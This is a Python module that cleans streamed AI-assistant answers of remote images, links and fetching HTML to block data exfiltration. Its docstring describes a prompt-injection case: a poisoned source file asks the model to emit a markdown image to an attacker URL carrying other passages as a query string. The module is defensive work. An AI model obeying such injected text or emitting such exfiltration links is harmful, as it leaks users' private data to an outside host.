"""Answers leave Artisan with no remote image and no link but to the user's own sources.

A poisoned file can ask the model to write `![](https://attacker/?d=<the other passages>)`:
Open WebUI, LibreChat or an MCP host fetches it as soon as it renders the answer, and the data
leaves. So an answer is cleaned before any of it is sent (docs/answers-and-links.md says why):

- an image (`![alt](url)`, `<img …>`) becomes its alt text, a link (`[text](url)`) its text;
  a link to an address written word for word in the answer's sources (the passages it was
  given, the question) keeps it as text after it: `text (url)`. `[Ref: N]` markers stay.
- HTML with attributes, comments and the tags that fetch (link_parts.FETCHING) are dropped.
- then link_guard.py reads the result as a renderer will: a reference definition's address
  (`[id]: https://…`) is dropped, a '<' that could still open markup is defused, and a bare
  address (`https://…`, `www.…`, `<https://…>`) loses its query string and fragment unless
  the sources hold it as written.

Streamed, a piece that ends inside what may become one of these is held back until it is whole
or proven harmless, at most MAX_HELD characters: a bracket that never closes is then let out as
text. Whatever was let out, a `](` after it still starts an address that is dropped, so nothing
let out early turns into a link later. Every character is read at most twice here (once, and
again as part of a tag that was not one) and twice in the guard: linear time on any input.
"""

import re
from collections import deque
from collections.abc import Callable, Iterable

from services.chat.link_guard import OutputGuard
from services.chat.link_parts import MAX_HELD, TagReader, link_address, urls_in

_ORDINARY = re.compile(r"[^\[\]()!<\n]+")  # nothing in it can start what is cleaned
_REF = re.compile(r"Ref:\s*\d+")
# a document Artisan made for this answer (services/chat/tools/documents.py): a path on the
# same server as the answer, so following it takes nothing anywhere else
_OWN_DOCUMENT = re.compile(r"/v1/documents/[0-9a-f-]{36}/export")


class _Text:
    """Cleaned text: the answer's, or what is inside an open bracket."""

    __slots__ = ("image", "last", "parts", "size")

    def __init__(self, *, image: bool = False) -> None:
        self.image = image
        self.parts: list[str] = []
        self.size = len(self.opener)
        self.last = ""

    @property
    def opener(self) -> str:
        return "![" if self.image else "["

    def add(self, text: str) -> None:
        self.parts.append(text)
        self.size += len(text)
        self.last = text[-1]

    def text(self) -> str:
        return "".join(self.parts)


def clean_answer(answer: str, sources: Iterable[str] = ()) -> str:
    """The whole answer, cleaned as its streamed pieces are."""
    links = AnswerLinks(sources)
    return links.feed(answer) + links.flush()


class AnswerLinks:
    """Cleans an answer piece by piece; `sources` are the texts of its passages."""

    def __init__(self, sources: Iterable[str] = ()) -> None:
        self._allowed = urls_in(sources)
        self._guard = OutputGuard(self._allowed)
        self._out = _Text()
        self._brackets: deque[_Text] = deque()  # open, outermost first
        self._bracketed = 0  # characters held in them
        self._closed: _Text | None = None  # a bracket just closed: a link if "(" follows
        self._bang = False  # a "!" that may open an image
        self._plain = False  # reading held text again: a '<' opens nothing
        self._state: Callable[[str], None] = self._text
        self._held: list[str] = []
        self._depth = 0  # unclosed '(' in an address
        self._link: _Text | None = None  # the text of the link whose address is read
        self._tag: TagReader | None = None

    def feed(self, piece: str) -> str:
        """What of the answer so far can be sent: cleaned, and never a part of a link."""
        reading_text, at = self._text, 0
        while at < len(piece):
            if self._state == reading_text and self._closed is None and not self._bang:
                run = _ORDINARY.match(piece, at)
                if run:
                    self._emit(run.group())
                    at = run.end()
                    continue
            self._state(piece[at])
            at += 1
        return self._guard.feed(self._take())

    def flush(self) -> str:
        """The rest, at the end of the answer: what was held back is let out, cleaned."""
        while self._state != self._text:
            self._finish_state()
        if self._closed is not None:
            self._emit(self._closed.opener + self._closed.text() + "]")
            self._closed = None
        if self._bang:
            self._emit("!")
            self._bang = False
        self._let_out_brackets(len(self._brackets))
        return self._guard.feed(self._take()) + self._guard.flush()

    # plain text and brackets

    def _text(self, char: str) -> None:
        if self._closed is not None:
            closed, self._closed = self._closed, None
            if char == "(":
                return self._start_address(closed)
            self._emit(closed.opener + closed.text() + "]")
        if self._bang:
            self._bang = False
            if char == "[":
                return self._open(image=True)
            self._emit("!")
        last = self._current().last
        if char == "(" and last == "]":
            self._start_address(None)  # after a bracket let out as text: still no link
        elif char == "!":
            self._bang = True
        elif char == "[":
            self._open(image=False)
        elif char == "]":
            self._close()
        elif char == "<":
            self._tag = TagReader(plain=self._plain)
            self._state = self._in_tag
        else:
            self._emit(char)
            if char == "\n" and last == "\n":
                self._let_out_brackets(len(self._brackets))  # no link spans paragraphs

    def _open(self, *, image: bool) -> None:
        bracket = _Text(image=image)
        self._brackets.append(bracket)
        self._bracketed += bracket.size
        self._within_bound()

    def _close(self) -> None:
        if not self._brackets:
            return self._emit("]")
        self._closed = self._brackets.pop()
        self._bracketed -= self._closed.size

    def _current(self) -> _Text:
        return self._brackets[-1] if self._brackets else self._out

    def _emit(self, text: str) -> None:
        """Add cleaned text; after a ']' a '(' it begins with is spaced off: a link's text such
        as "(see below)" must not become the address of the bracket before it."""
        if not text:
            return
        if text[0] == "(" and self._current().last == "]":
            text = " " + text
        current = self._current()
        current.add(text)
        if current is not self._out:
            self._bracketed += len(text)
            self._within_bound()

    def _within_bound(self) -> None:
        """Held too long, the outermost bracket is let out as text: a link is not that long."""
        while self._bracketed > MAX_HELD:
            self._let_out_brackets(1)

    def _let_out_brackets(self, count: int) -> None:
        for _ in range(count):
            bracket = self._brackets.popleft()
            self._bracketed -= bracket.size
            self._out.add(bracket.opener + bracket.text())

    def _take(self) -> str:
        taken = "".join(self._out.parts)
        self._out.parts.clear()
        return taken

    def _reread(self, text: str) -> None:
        """Held text read again as plain text: what it holds is cleaned, and read only twice."""
        plain, self._plain = self._plain, True
        for char in text:
            self._state(char)
        self._plain = plain

    # a link's address: `(…)` after a bracket

    def _start_address(self, link: _Text | None) -> None:
        self._link, self._depth, self._held = link, 0, []
        self._state = self._in_address

    def _in_address(self, char: str) -> None:
        if char == ")" and self._depth == 0:
            return self._end_link("".join(self._held))
        self._depth += (char == "(") - (char == ")")
        self._held.append(char)
        if len(self._held) > MAX_HELD:
            self._end_link("")  # an address this long is no one's source: dropped

    def _end_link(self, destination: str) -> None:
        link, self._link, self._held = self._link, None, []
        self._state = self._text
        self._emit(self._link_text(link, link_address(destination)))

    def _link_text(self, link: _Text | None, url: str) -> str:
        text = "" if link is None else link.text()
        if _REF.fullmatch(text):
            return f"[{text}]"  # a citation marker is kept whole
        if link is not None and not link.image and _OWN_DOCUMENT.fullmatch(url):
            return f"[{text}]({url})"
        if (link is not None and link.image) or url not in self._allowed or url == text:
            return text
        return f"{text} ({url})"

    # what follows a '<'

    def _in_tag(self, char: str) -> None:
        assert self._tag is not None
        verdict = self._tag.step(char)
        if verdict is None:
            return
        self._tag, self._state = None, self._text
        self._emit(verdict.keep)
        self._reread(verdict.reread)
        if not verdict.consumed:
            self._state(char)

    # ending

    def _finish_state(self) -> None:
        if self._state == self._in_tag:
            assert self._tag is not None
            verdict, self._tag, self._state = self._tag.end(), None, self._text
            self._emit(verdict.keep)
            self._reread(verdict.reread)
        elif self._state == self._in_address:
            self._end_link("")
        else:
            self._state = self._text
